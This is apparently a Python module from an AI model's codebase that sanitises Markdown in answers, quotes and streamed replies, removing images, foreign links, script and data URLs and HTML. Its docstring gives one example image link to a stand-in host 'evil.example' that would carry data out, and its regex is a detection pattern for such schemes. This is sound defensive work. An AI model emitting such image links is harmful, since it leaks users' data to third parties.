"""Text safe to hand on as Markdown: the one sanitizer for every answer, quote and export.

Security decision, enforced here: archive text (a planted post, an uploaded page) and model
text reach Markdown renderers (a chat client of ``/v1``, wherever "Copy as Markdown" is
pasted) without ever becoming

- an image: a renderer fetches it unasked, and its address can carry data out
  (``![x](http://evil.example/?q=…)``); it keeps its alt text;
- a link to anywhere but the archive's own permalinks (a passage's ``url``): a link keeps
  its text, any other address (bare, ``<autolink>``, reference definition) becomes
  ``(link removed)``;
- a ``javascript:``, ``vbscript:`` or ``data:`` URL, linked or not: ``(link removed)``;
- HTML that renders: comments (hidden text) are dropped, tags removed, and a ``<`` that could
  still open one (an unclosed tag) gets a space after it.

What is left of a construct too broken to match (cut by a stream, say) cannot form one: a
``](`` has its bracket escaped, ``![`` and ``<x`` get a space.

Everything else is left as written, so clean text passes unchanged and ``safe_markdown`` is
idempotent. Every part it neutralises (``](``, ``<x``, an address, a scheme) holds no
whitespace, so text cut at whitespace can be made safe piece by piece: ``SafeMarkdownStream``
does that for streamed replies.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from assistant.ingest.whitespace import INVISIBLE_RE
from assistant.text import web_url

__all__ = [
    "LINK_REMOVED",
    "SafeMarkdownStream",
    "permalinks",
    "safe_markdown",
    "strip_invisible",
    "web_url",
]

LINK_REMOVED = "(link removed)"
_MAX_DEPTH = 4  # nested link labels / alt texts sanitised this deep; deeper ones are dropped
_MAX_HOLD = 400  # a stream holds back at most this much while a link or comment is open

_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

_LABEL = r"\[((?:[^\[\]\\\n]|\\.|\[(?:[^\[\]\\\n]|\\.)*\])*)\]"
_DEST = (r"\(\s*(<[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*)"
         r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)")
_SCANNER = re.compile(
    r"(?P<comment><!--[\s\S]*?(?:-->|\Z))"
    rf"|(?P<image>!{_LABEL}{_DEST})"
    rf"|(?P<link>{_LABEL}{_DEST})"
    r"|(?P<autolink><[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*>)"
    r"|(?P<tag></?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>|<![A-Za-z\[][^<>]*>|<\?[^<>]*>)"
    rf"|(?P<definition>(?m:^)[ \t]{{0,3}}{_LABEL}:[ \t]*\S+[^\n]*)"
    r"|(?P<scheme>(?:java|vb|live)\s*script\s*:\S+|data:[\w.+-]+/[\w.+-]+[;,]\S*)"
    r"|(?P<bare>(?:https?|ftp)://[^\s<>\"'`]+|\bwww\.[^\s<>\"'`]+)",
    re.I)
_OPEN_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_OPEN_LINK = re.compile(r"(?<!\\)\](?=\()")
_OPEN_IMAGE = re.compile(r"!(?=\[)")
_OPEN_DEFINITION = re.compile(r"(?m)^([ \t]{0,3}\[[^\]\n]*)\]:")
_TRAILING = ".,:;!?'\"*_~]"
_SLOT = "\x00{}\x00"  # control characters are stripped first, so only kept links carry it
_SLOT_RE = re.compile("\x00(\\d+)\x00")


def strip_invisible(text: str) -> str:
    """``text`` without control (other than tab and newlines) and invisible characters."""
    return INVISIBLE_RE.sub("", _CONTROL.sub("", text))  # the set ingest drops from chunks


def permalinks(hits: Iterable) -> frozenset[str]:
    """The web addresses of ``hits``' posts: the only links an answer may carry."""
    return frozenset(u for u in (web_url(getattr(h, "url", None)) for h in hits) if u)


def _trim(url: str) -> tuple[str, str]:
    """``(address, trailing punctuation)``: a sentence's full stop is not part of a URL, nor
    a closing bracket without its opening one ("(see http://x/a)")."""
    end, opens, closes = len(url), url.count("("), url.count(")")
    while end and (url[end - 1] in _TRAILING or url[end - 1] == ")"):
        if url[end - 1] == ")":
            if opens >= closes:
                break
            closes -= 1
        end -= 1
    return url[:end], url[end:]


class _Scan:
    """One sanitising pass; kept permalinks wait in slots until the residue is neutralised."""

    def __init__(self, allowed: frozenset[str]):
        self.allowed = allowed
        self.kept: list[str] = []

    def keep(self, text: str) -> str:
        self.kept.append(text)
        return _SLOT.format(len(self.kept) - 1)

    def run(self, text: str, depth: int = 0) -> str:
        if depth > _MAX_DEPTH:
            return ""
        return _SCANNER.sub(lambda m: self.replace(m, depth), text)

    def replace(self, m: re.Match, depth: int) -> str:
        kind, whole = m.lastgroup, m.group(0)
        first = _SCANNER.groupindex[kind] + 1  # a link's or image's label, then its address
        if kind in ("comment", "tag"):
            return ""
        if kind == "image":
            return self.run(m.group(first), depth + 1)  # the alt text
        if kind == "link":
            label, dest = self.run(m.group(first), depth + 1), m.group(first + 1).strip("<>")
            if dest in self.allowed:
                return self.keep(f"[{label}]({dest})")
            return f"[{label}]" if label.isdigit() else label  # "[1](…)" stays a citation
        if kind == "autolink":
            return self.keep(whole) if whole[1:-1] in self.allowed else LINK_REMOVED
        if kind == "definition":
            return f"{self.run(m.group(first), depth + 1)}: {LINK_REMOVED}"
        if kind == "bare":
            url, tail = _trim(whole)
            return (self.keep(url) if url in self.allowed else LINK_REMOVED) + tail
        return LINK_REMOVED  # a javascript:, vbscript: or data: address

    def finish(self, text: str) -> str:
        text = _OPEN_TAG.sub("< ", text)
        text = _OPEN_LINK.sub(r"\\]", _OPEN_IMAGE.sub("! ", text))
        text = _OPEN_DEFINITION.sub(r"\1\\]:", text)
        return _SLOT_RE.sub(lambda m: self.kept[int(m.group(1))], text)


def safe_markdown(text: str | None, allowed: Iterable[str] = ()) -> str:
    """``text`` with no image, no link except to ``allowed`` addresses (permalinks), no
    script or data URL and no HTML that renders; clean text comes back unchanged."""
    text = strip_invisible(text or "")
    if not text:
        return ""
    scan = _Scan(frozenset(allowed))
    return scan.finish(scan.run(text))


class SafeMarkdownStream:
    """``safe_markdown`` over a streamed text: ``feed`` each delta and send what it returns,
    then ``flush``. Text is cut at whitespace, or before an open ``[``, ``<`` or ``<!--``
    (held back up to ``_MAX_HOLD`` characters so a link streamed in pieces stays whole)."""

    def __init__(self, allowed: Iterable[str] = ()):
        self.allowed = frozenset(allowed)
        self._pending = ""

    def feed(self, delta: str) -> str:
        self._pending += delta
        cut = _cut(self._pending)
        ready, self._pending = self._pending[:cut], self._pending[cut:]
        return safe_markdown(ready, self.allowed) if ready else ""

    def flush(self) -> str:
        ready, self._pending = self._pending, ""
        return safe_markdown(ready, self.allowed) if ready else ""


def _cut(text: str) -> int:
    """Where ``text`` may be cut: after its last whitespace outside a complete construct, or
    before a construct still open (a ``[`` or ``<`` not yet closed, a comment)."""
    cut = max(text.rfind(" "), text.rfind("\n"), text.rfind("\t")) + 1
    starts = set()
    for match in _SCANNER.finditer(text):
        starts.add(match.start())
        if match.start() < cut < match.end():
            cut = match.start()
    if len(text) > _MAX_HOLD:
        return cut
    opened = [i for i in (text.rfind("<!--"),) if i >= 0 and "-->" not in text[i:]]
    bracket = text.rfind("[")
    if bracket >= 0:
        start = bracket - 1 if text[bracket - 1:bracket] == "!" else bracket
        tail = text[bracket:]
        if "]" not in tail or tail.endswith("]") or (
                "](" in tail and start not in starts and bracket not in starts):
            opened.append(start)
    angle = text.rfind("<")
    if angle >= 0 and ">" not in text[angle:] and re.match(r"<(?:[A-Za-z/!?]|\Z)", text[angle:]):
        opened.append(angle)
    return min([cut, *opened])
